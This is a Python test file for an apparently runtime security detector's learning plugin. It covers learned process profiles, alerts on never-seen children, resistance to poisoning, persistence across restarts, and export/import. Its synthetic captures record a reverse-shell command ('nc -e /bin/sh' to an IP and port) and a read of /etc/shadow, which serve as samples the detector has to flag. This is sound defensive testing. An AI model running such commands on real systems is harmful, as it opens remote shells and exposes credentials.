"""Learning mode through the real engine on synthetic captures: learning window, verdicts,
persistence across restarts, poisoning (taint), export/import, bounds."""

from __future__ import annotations

import os
import stat
from pathlib import Path

from falconet_learning.store import ProfileStore
from learning_helpers import T0, Cap, S, run_replay

CRON = "/usr/sbin/cron"


def _learning_then_attack(path: Path) -> None:
    c = Cap(path)
    c.spawn(T0, 1, 500, CRON)
    for i in range(3):                           # learning: cron runs its job shell
        pid = 600 + i
        c.spawn(T0 + (1 + i) * S, 500, pid, "/bin/sh", ["sh", "-c", "date"])
        c.open(T0 + (1 + i) * S + 10, pid, f"/proc/{pid}/stat")
        c.open(T0 + (1 + i) * S + 20, pid, f"/tmp/tmp.ab{i}X9k", flags=0o1101)
    # after the 10 s window: a known child, then a new one
    c.spawn(T0 + 20 * S, 500, 700, "/bin/sh", ["sh", "-c", "date"])
    c.spawn(T0 + 21 * S, 500, 701, "/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])
    c.close()


def test_window_then_new_child_alerts(tmp_path: Path) -> None:
    cap = tmp_path / "c.fcap"
    _learning_then_attack(cap)
    state = tmp_path / "state"
    alerts = run_replay(tmp_path, cap, state, "plugins.learning.learning_seconds=10")
    spawned = [a for a in alerts if a["rule"] == "Service Spawned Never-Seen Child"]
    assert [a["output_fields"]["proc.exepath"] for a in spawned] == ["/usr/bin/nc"], alerts
    assert spawned[0]["priority"] == "Warning"
    # the database: private, WAL, the profile ready with generalised entries
    assert stat.S_IMODE(os.stat(state).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(state / "profiles.db").st_mode) == 0o600
    st = ProfileStore(state)
    try:
        rows = {p["identity"]: p for p in st.profiles()}
        cron = rows["host:" + CRON]
        assert cron["state"] == "ready"
        ent = st.entries(cron["id"])
        assert ent["proc"] == ["/bin/sh"]
        assert ent["spawn"] == [CRON + "\0/bin/sh"]
        sh = st.entries(rows["host:/bin/sh"]["id"])
        assert sh["file_r"] == ["/proc/<pid>/stat"]
        assert sh["file_w"] == ["/tmp/tmp.<rand>"]
    finally:
        st.close()


def test_profiles_survive_a_restart(tmp_path: Path) -> None:
    learn, attack = tmp_path / "learn.fcap", tmp_path / "attack.fcap"
    c = Cap(learn)
    c.spawn(T0, 1, 500, CRON)
    c.spawn(T0 + S, 500, 600, "/bin/sh")
    c.spawn(T0 + 20 * S, 500, 601, "/bin/sh")     # turns the profile ready
    c.close()
    state = tmp_path / "state"
    assert run_replay(tmp_path, learn, state, "plugins.learning.learning_seconds=10") == []
    # a second engine (restart) on the same state directory: ready from the start
    c = Cap(attack)
    c.spawn(T0 + 100 * S, 1, 500, CRON)
    c.spawn(T0 + 101 * S, 500, 602, "/bin/sh")
    c.spawn(T0 + 102 * S, 500, 603, "/usr/bin/wget")
    c.close()
    alerts = run_replay(tmp_path, attack, state, "plugins.learning.learning_seconds=10")
    assert [a["output_fields"]["proc.exepath"] for a in alerts
            if a["rule"] == "Service Spawned Never-Seen Child"] == ["/usr/bin/wget"]


def test_never_learns_from_a_process_with_a_warning_alert(tmp_path: Path) -> None:
    """Poisoning: a child that raised a Warning+ alert while the profile learned is not learned,
    so the same behaviour after the window still alerts."""
    # (a rule on another event than the exec: rule_matching is "first")
    rules = tmp_path / "warn.yaml"
    rules.write_text("""\
- rule: Test warning on nc
  desc: nc is an attack tool
  condition: evt.type = openat and fd.name = /etc/shadow
  output: shadow read (proc.exepath=%proc.exepath)
  priority: WARNING
""")
    cap = tmp_path / "p.fcap"
    c = Cap(cap)
    c.spawn(T0, 1, 500, CRON)
    c.spawn(T0 + S, 500, 600, "/bin/sh")
    c.spawn(T0 + 2 * S, 500, 601, "/usr/bin/nc")
    c.open(T0 + 2 * S + 100, 601, "/etc/shadow")     # alerts (Warning): 601 is never learned
    c.spawn(T0 + 20 * S, 500, 602, "/bin/sh")
    c.spawn(T0 + 21 * S, 500, 603, "/usr/bin/nc")
    c.close()
    state = tmp_path / "state"
    alerts = run_replay(tmp_path, cap, state, "plugins.learning.learning_seconds=10",
                        "plugins.learning.quarantine_seconds=30", rules=[str(rules)])
    spawned = [a for a in alerts if a["rule"] == "Service Spawned Never-Seen Child"]
    # the replay is faster than the quarantine: the second nc is judged before the writer
    # committed anything, and the first nc's edge is pending, so it counts as known until the
    # writer drops it. What must hold: nc was never written to the profile.
    st = ProfileStore(state)
    try:
        prof = next(p for p in st.profiles() if p["identity"] == "host:" + CRON)
        assert st.entries(prof["id"])["proc"] == ["/bin/sh"]
    finally:
        st.close()
    assert all(a["output_fields"]["proc.exepath"] == "/usr/bin/nc" for a in spawned)
    alerts = run_replay(tmp_path, cap, state, "plugins.learning.learning_seconds=10",
                        rules=[str(rules)])
    spawned = [a for a in alerts if a["rule"] == "Service Spawned Never-Seen Child"]
    assert [a["output_fields"]["proc.exepath"] for a in spawned] == ["/usr/bin/nc"] * 2


def test_export_import_gives_the_same_verdicts(tmp_path: Path) -> None:
    cap = tmp_path / "c.fcap"
    _learning_then_attack(cap)
    a1 = tmp_path / "a1"
    first = run_replay(tmp_path, cap, a1, "plugins.learning.learning_seconds=10")
    st = ProfileStore(a1)
    lines = list(st.export_lines())
    st.close()
    assert lines == sorted(lines[:1]) + lines[1:] and lines[0] == '{"falconet_profiles": 1}'
    b = ProfileStore(tmp_path / "b")
    assert b.import_lines(lines) == len([x for x in lines if '"profile"' in x])
    assert list(b.export_lines()) == lines
    b.close()
    # the imported profiles are ready: the whole capture is judged, the learning part too
    again = run_replay(tmp_path, cap, tmp_path / "b", "plugins.learning.learning_seconds=10")
    assert {a["rule"] for a in again} == {a["rule"] for a in first}
    assert [a["output_fields"]["proc.exepath"] for a in again
            if a["rule"] == "Service Spawned Never-Seen Child"] == ["/usr/bin/nc"]


def test_bounded_profile_stops_growing(tmp_path: Path, caplog) -> None:
    cap = tmp_path / "c.fcap"
    c = Cap(cap)
    c.spawn(T0, 1, 500, CRON)
    for i in range(20):
        c.spawn(T0 + S + i, 500, 600 + i, f"/opt/job{chr(97 + i)}")
    c.close()
    state = tmp_path / "state"
    run_replay(tmp_path, cap, state, "plugins.learning.max_entries_per_profile=5")
    st = ProfileStore(state)
    try:
        prof = next(p for p in st.profiles() if p["identity"] == "host:" + CRON)
        assert prof["full"] and prof["entries"] == 5
    finally:
        st.close()
    assert sum("reached max_entries_per_profile=5" in r.message for r in caplog.records) == 1


def test_bad_setting_is_reported_by_the_schema(tmp_path: Path) -> None:
    from falconet.app import App
    from falconet.config import load_config
    from falconet_learning import plugin

    cfg = load_config(None, ["plugins.learning.learning_seconds=-1",
                             f"plugins.learning.state_dir={tmp_path}"])
    app = App(cfg, source_name="replay", entry_points=False, extra_plugins=[("learning", plugin)])
    app.load_plugins()
    [f] = app.host.failures
    assert (f.name, f.stage) == ("learning", "configure")
    assert "plugins.learning.learning_seconds: expected a number between 0 and 31536000, " \
           "got -1" in f.reason


def test_state_dir_symlink_is_refused(tmp_path: Path) -> None:
    import pytest
    from falconet_learning.store import StoreError

    real = tmp_path / "real"
    real.mkdir()
    link = tmp_path / "link"
    link.symlink_to(real)
    with pytest.raises(StoreError, match="symlink is refused"):
        ProfileStore(link)
    (real / "profiles.db").symlink_to(tmp_path / "elsewhere.db")
    with pytest.raises(StoreError, match="symlink is refused"):
        ProfileStore(real)
    assert not (tmp_path / "elsewhere.db").exists()


def test_a_full_writer_queue_is_counted_once_per_drop(tmp_path: Path) -> None:
    cap = tmp_path / "c.fcap"
    c = Cap(cap)
    c.spawn(T0, 1, 500, "/usr/bin/app")
    for i in range(100):
        c.open(T0 + S + i, 500, f"/srv/data/{'x' * (i % 7)}file{chr(97 + i % 26)}{i % 13}")
    c.close()
    apps: list = []
    run_replay(tmp_path, cap, tmp_path / "state", "plugins.learning.queue_size=16",
               "plugins.learning.flush_interval=60", "plugins.learning.quarantine_seconds=600",
               engine=apps)
    [app] = apps
    dropped = app.metrics.drops["learning_queue_full"]
    assert dropped > 0
    st = ProfileStore(tmp_path / "state")
    try:
        prof = next(p for p in st.profiles() if p["identity"] == "host:/usr/bin/app")
        learned = prof["entries"]
    finally:
        st.close()
    distinct = len({f"/srv/data/{'x' * (i % 7)}file{chr(97 + i % 26)}{i % 13}" for i in range(100)})
    assert learned + dropped == distinct and learned < 16


def test_profile_fields_with_other_operators(tmp_path: Path) -> None:
    rules = tmp_path / "ops.yaml"
    rules.write_text("""\
- rule: Test profile operators
  desc: the profile fields behave like any field
  condition: >
    evt.type = execve and profile.state in (ready) and profile.identity startswith "host:/usr/sbin"
    and profile.kind != container and profile.spawn.new != false and profile.id exists
    and not profile.proc.new = false
  output: ops (proc.exepath=%proc.exepath state=%profile.state id=%profile.id)
  priority: NOTICE
""")
    cap = tmp_path / "c.fcap"
    _learning_then_attack(cap)
    alerts = run_replay(tmp_path, cap, tmp_path / "state", "plugins.learning.learning_seconds=10",
                        rules=[str(rules)])
    ops = [a for a in alerts if a["rule"] == "Test profile operators"]
    assert [a["output_fields"]["proc.exepath"] for a in ops] == ["/usr/bin/nc"]
    assert ops[0]["output_fields"]["profile.state"] == "ready"
    assert len(ops[0]["output_fields"]["profile.id"]) == 12


def test_file_learning_is_off_by_default_and_leaves_opens_to_the_kernel_filter(tmp_path: Path
                                                                                 ) -> None:
    """Without plugins.learning.files, opens are not learned, the file rule is not loaded, and
    the plugin does not ask the kernel filter to pass every open."""
    from falconet.plugin_config import validate_section  # noqa: PLC0415
    from falconet_learning.config import SCHEMA, learning_config  # noqa: PLC0415
    from falconet_learning.plugin import FILE_RULES_FILE, RULES_FILE, LearningPlugin  # noqa: PLC0415
    values, problems = validate_section(SCHEMA, "learning", {}, lambda p: "<t>")
    assert not problems and values["files"] is False
    p = LearningPlugin()
    p.learner.cfg = learning_config(values | {"state_dir": str(tmp_path)})
    assert p.falconet_unfiltered_event_types(None) == []
    assert p.falconet_rules_files(None) == [RULES_FILE]
    p.learner.cfg = learning_config(values | {"state_dir": str(tmp_path), "files": True})
    assert "openat" in p.falconet_unfiltered_event_types(None)
    assert p.falconet_rules_files(None) == [RULES_FILE, FILE_RULES_FILE]
